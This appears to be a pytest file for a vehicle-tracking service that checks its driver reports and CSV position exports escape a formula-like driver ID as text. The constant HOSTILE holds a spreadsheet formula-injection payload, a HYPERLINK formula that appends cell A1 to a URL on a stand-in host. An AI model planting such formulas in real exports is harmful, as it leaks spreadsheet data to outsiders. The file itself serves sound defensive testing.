"""A driver id sent by a device is untrusted text: the inspector's reports and the CSV extraction write a
formula-like id ("=HYPERLINK(…)") as text, never as a live formula."""

import csv
import datetime as dt
import io

import openpyxl
import pytest

from tinhso.transport import services

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"200000000001")'
START = int(dt.datetime(2025, 3, 3, 1, 0, tzinfo=dt.UTC).timestamp())


@pytest.fixture
def hostile_track(inspector, fleet):
    points = [{"plate": "20B-012.34", "time": START + 30 * i, "lat": 21.3 + i * 0.0045, "lon": 105.85, "speed": 60,
               "ignition": True, "driver": HOSTILE} for i in range(60)]
    services.ingest_stream(inspector, points)
    services.run_analysis(inspector, dt.date(2025, 3, 3), dt.date(2025, 3, 3))
    return fleet["20B-012.34"]


def test_driver_report_writes_a_formula_like_driver_id_as_text(api_as, inspector, hostile_track):
    api = api_as(inspector)
    url = "/transport/reports/driver?start=2025-03-03&end=2025-03-03"
    sheet = openpyxl.load_workbook(io.BytesIO(api.get(url + "&format=xlsx").content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == HOSTILE]
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    rows = list(csv.reader(io.StringIO(api.get(url + "&format=csv").content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + HOSTILE


def test_csv_extraction_prefixes_a_formula_like_driver_id(api_as, inspector, hostile_track):
    url = f"/transport/vehicles/{hostile_track.plate}/positions?start=2025-03-03&end=2025-03-03&format=csv"
    rows = list(csv.reader(io.StringIO(api_as(inspector).get(url).content.decode())))
    assert {row[-1] for row in rows[1:]} == {"'" + HOSTILE}
